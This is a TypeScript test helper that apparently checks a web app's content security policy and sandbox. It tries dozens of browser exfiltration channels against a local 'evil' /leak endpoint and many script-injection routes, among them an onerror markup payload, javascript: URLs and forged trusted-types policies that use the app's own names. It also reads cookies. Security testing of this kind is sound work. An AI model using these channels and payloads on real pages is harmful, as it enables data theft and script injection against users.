/**
 * Runs in the page, so it stands alone. Each way out of the page that a browser has, and each way to run text as a script, is tried;
 * what it says begins with `blocked` when it led nowhere.
 */
export async function breakouts(port: number): Promise<Record<string, string>> {
  const evil = `http://127.0.0.1:${port}/leak`;
  const results: Record<string, string> = {};
  const ran = (): boolean => Reflect.get(window, 'ran') === true;
  const rest = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 120));

  /** Blocked when it throws or rejects; what it answers otherwise. */
  const attempt = async (what: string, work: () => unknown): Promise<void> => {
    Reflect.set(window, 'ran', false);
    try {
      const late = new Promise<undefined>((resolve) => setTimeout(resolve, 1500));
      const result = await Promise.race([work(), late]);
      results[what] = ran()
        ? 'a script ran'
        : result === undefined
          ? 'blocked: nothing came of it'
          : typeof result === 'string'
            ? result
            : 'it came through';
    } catch (error) {
      results[what] = `blocked: ${String(error).slice(0, 80)}`;
    }
  };
  /** An element that would load something says `load` or `error`. */
  const element = (what: string, tag: string, attributes: Record<string, string>): Promise<void> =>
    attempt(what, async () => {
      const made = document.createElement(tag);
      const came = new Promise<string>((resolve) => {
        made.addEventListener('load', () => {
          resolve(tag === 'iframe' ? 'blocked: an empty frame' : 'it loaded');
        });
        made.addEventListener('error', () => {
          resolve('blocked: error');
        });
        setTimeout(resolve, 300, 'blocked: nothing came');
      });
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.body.append(made);
      const said = await came;
      made.remove();
      return said;
    });

  await attempt('fetch', async () => (await fetch(evil, { mode: 'no-cors' })).type);
  await attempt(
    'XMLHttpRequest',
    () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = resolve;
        request.onerror = reject;
        request.open('GET', evil);
        request.send();
      }),
  );
  await attempt(
    'WebSocket',
    () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
  );
  await attempt(
    'EventSource',
    () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(evil);
        source.onopen = resolve;
        source.onerror = (event) => {
          source.close();
          reject(new Error(event.type));
        };
      }),
  );
  await attempt('sendBeacon', async () => {
    navigator.sendBeacon(evil, 'key');
    await rest();
  });
  await attempt('fetch, kept alive', () =>
    fetch(evil, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' }).then(() => 'sent'),
  );
  await element('image', 'img', { src: evil });
  await element('video', 'video', { src: evil, autoplay: '' });
  await element('audio', 'audio', { src: evil, autoplay: '' });
  await element('style sheet', 'link', { rel: 'stylesheet', href: evil });
  await element('icon', 'link', { rel: 'icon', href: evil });
  await element('prefetch', 'link', { rel: 'prefetch', href: evil });
  await element('preload', 'link', { rel: 'preload', as: 'image', href: evil });
  await element('module preload', 'link', { rel: 'modulepreload', href: evil });
  await element('manifest', 'link', { rel: 'manifest', href: evil });
  await element('frame', 'iframe', { src: evil });
  await element('object', 'object', { data: evil });
  await element('embed', 'embed', { src: evil });
  await element('image in SVG', 'img', {
    src: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}"/></svg>#`,
  }).then(() => {
    // The picture itself is allowed; what it would load is not.
    results['image in SVG'] = 'blocked: the connections are counted';
  });
  await attempt('style with an address', async () => {
    document.body.style.backgroundImage = `url(${evil})`;
    await rest();
    document.body.style.backgroundImage = '';
  });
  await attempt('font', () => new FontFace('x', `url(${evil})`).load().then(() => 'it loaded'));
  await attempt('form', async () => {
    const form = Object.assign(document.createElement('form'), { action: evil, method: 'post' });
    document.body.append(form);
    form.submit();
    await rest();
    form.remove();
  });
  await attempt('link with a ping', async () => {
    const anchor = Object.assign(document.createElement('a'), { href: '#x', ping: evil });
    document.body.append(anchor);
    anchor.click();
    await rest();
    anchor.remove();
  });
  await attempt('window', () => (window.open(evil) === null ? 'blocked: no window' : 'a window'));
  await attempt('address', async () => {
    location.href = evil;
    await rest();
  });
  await attempt('refresh', async () => {
    const meta = Object.assign(document.createElement('meta'), {
      httpEquiv: 'refresh',
      content: `0;url=${evil}`,
    });
    document.head.append(meta);
    await rest();
    meta.remove();
  });
  await attempt('base', () => {
    const base = Object.assign(document.createElement('base'), { href: evil });
    document.head.append(base);
    const moved = document.baseURI.includes('leak');
    base.remove();
    return moved ? 'all addresses moved' : 'blocked: the base stays';
  });
  await attempt('import', () => import(/* @vite-ignore */ evil).then(() => 'it loaded'));

  const code = 'window.ran = true';
  const blob = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
  await attempt('eval', () => {
    (0, eval)(code);
  });
  await attempt('new Function', () => {
    Reflect.construct(Function, [code]).call(null);
  });
  await attempt('text for a timer', async () => {
    Reflect.apply(setTimeout, window, [code, 0]);
    await rest();
  });
  for (const [what, source] of [
    ['a script of data', `data:text/javascript,${code}`],
    ['a script of a blob', blob],
    ['a script of another host', evil],
  ] as const) {
    await attempt(what, async () => {
      const script = document.createElement('script');
      script.src = source;
      document.head.append(script);
      await rest();
    });
    await attempt(`${what}, by a policy with a name that is ours`, async () => {
      for (const name of ['soundpost-worker', 'soundpost-live', 'svelte-trusted-html']) {
        const policies = Reflect.get(window, 'trustedTypes') as {
          createPolicy: (
            name: string,
            rules: object,
          ) => { createScriptURL: (text: string) => string };
        };
        const same = (text: string): string => text;
        let policy;
        try {
          policy = policies.createPolicy(name, {
            createScriptURL: same,
            createHTML: same,
            createScript: same,
          });
        } catch {
          continue;
        }
        const script = document.createElement('script');
        script.src = policy.createScriptURL(source);
        document.head.append(script);
        await rest();
      }
    });
  }
  await attempt('markup', async () => {
    const box = document.createElement('div');
    box.innerHTML = '<img src=x onerror="window.ran = true">';
    document.body.append(box);
    await rest();
  });
  await attempt('a policy of its own', () => {
    (
      Reflect.get(window, 'trustedTypes') as { createPolicy: (name: string, rules: object) => void }
    ).createPolicy('evil', {});
    return 'it has one';
  });
  await attempt('a handler in an attribute', async () => {
    const box = document.createElement('div');
    box.setAttribute('onclick', code);
    box.click();
    await rest();
  });
  await attempt('a javascript: address', async () => {
    const anchor = Object.assign(document.createElement('a'), { href: `javascript:${code}` });
    document.body.append(anchor);
    anchor.click();
    await rest();
    anchor.remove();
  });
  for (const [what, source] of [
    ['a worker of a blob', blob],
    ['a worker of another host', evil],
    ['a worker of data', `data:text/javascript,${code}`],
  ] as const) {
    await attempt(what, () => new Worker(source).constructor.name);
  }
  await attempt('a shared worker', () => new SharedWorker(evil).constructor.name);
  await attempt('a service worker', () =>
    navigator.serviceWorker
      .register('/@web-host/preload.js', { scope: '/' })
      .then(() => 'it is registered'),
  );
  await attempt('a frame with a bridge of its own', async () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    await rest();
    const has = frame.contentWindow !== null && 'soundpost' in frame.contentWindow;
    frame.remove();
    return has ? 'it has the bridge' : 'blocked: no bridge';
  });
  await attempt('the cookies', () => (document.cookie === '' ? 'blocked: none' : document.cookie));
  await attempt('the camera', () => navigator.mediaDevices.getDisplayMedia().then(() => 'it sees'));
  return results;
}
